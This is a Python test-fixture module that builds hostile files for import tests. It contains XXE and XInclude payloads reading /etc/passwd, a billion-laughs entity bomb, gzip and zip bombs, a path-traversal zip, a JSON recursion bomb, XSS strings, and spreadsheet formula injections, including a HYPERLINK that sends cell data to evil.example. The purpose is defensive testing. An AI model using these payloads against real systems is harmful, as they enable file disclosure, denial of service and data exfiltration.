"""Hostile files for the import tests: XML entity attacks, archive bombs and traversal, oversize bodies, formula
and markup payloads. Built in memory, small on the wire, so the whole corpus runs in seconds."""

from __future__ import annotations

import gzip
import io
import zipfile

MIB = 1024 * 1024
XXE = (
    b'<?xml version="1.0"?>\n<!DOCTYPE nmaprun [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    b'<nmaprun><host><address addr="&xxe;" addrtype="ipv4"/></host></nmaprun>\n'
)
BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode() for i in range(1, 10)
    )
    + b"]>\n<nmaprun>&lol9;</nmaprun>\n"
)
XINCLUDE = (
    b'<?xml version="1.0"?>\n<nmaprun xmlns:xi="http://www.w3.org/2001/XInclude">'
    b'<xi:include parse="text" href="file:///etc/passwd"/></nmaprun>\n'
)
# What a successful XXE or XInclude would put in a response or a record.
LEAK_MARKERS = (b"root:x:0:0", b"/bin/bash", b"/usr/sbin/nologin")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULA_CELLS = ("=1+1", "+1+1", "-1+1", "@SUM(1,1)", FORMULA)
XSS = '<script>alert("tandem-xss")</script><img src=x onerror=alert(1)>'


def gzip_bomb(size: int = 80 * MIB) -> bytes:
    """Return a gzip stream (~80 KB) that inflates to `size` zero bytes."""
    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb", compresslevel=9) as out:
        chunk = bytes(MIB)
        for _ in range(size // MIB):
            out.write(chunk)
    return buffer.getvalue()


def zip_bomb(size: int = 64 * MIB) -> bytes:
    """Return an .xlsx-looking ZIP whose worksheet inflates to `size` bytes (ratio ~1000:1)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            chunk = b" " * MIB
            for _ in range(size // MIB):
                member.write(chunk)
    return buffer.getvalue()


def traversal_zip() -> bytes:
    """Return an .xlsx-looking ZIP with members that climb out of any extraction folder."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("../../../../tmp/tandem-traversal.txt", "escaped")
        archive.writestr("/etc/tandem-absolute.txt", "escaped")
        archive.writestr("xl/..\\..\\tandem-backslash.txt", "escaped")
    return buffer.getvalue()


def deep_json(depth: int = 100_000) -> bytes:
    """Return JSON nested `depth` levels deep (a recursion bomb for naive parsers and walkers)."""
    return b"[" * depth + b"]" * depth
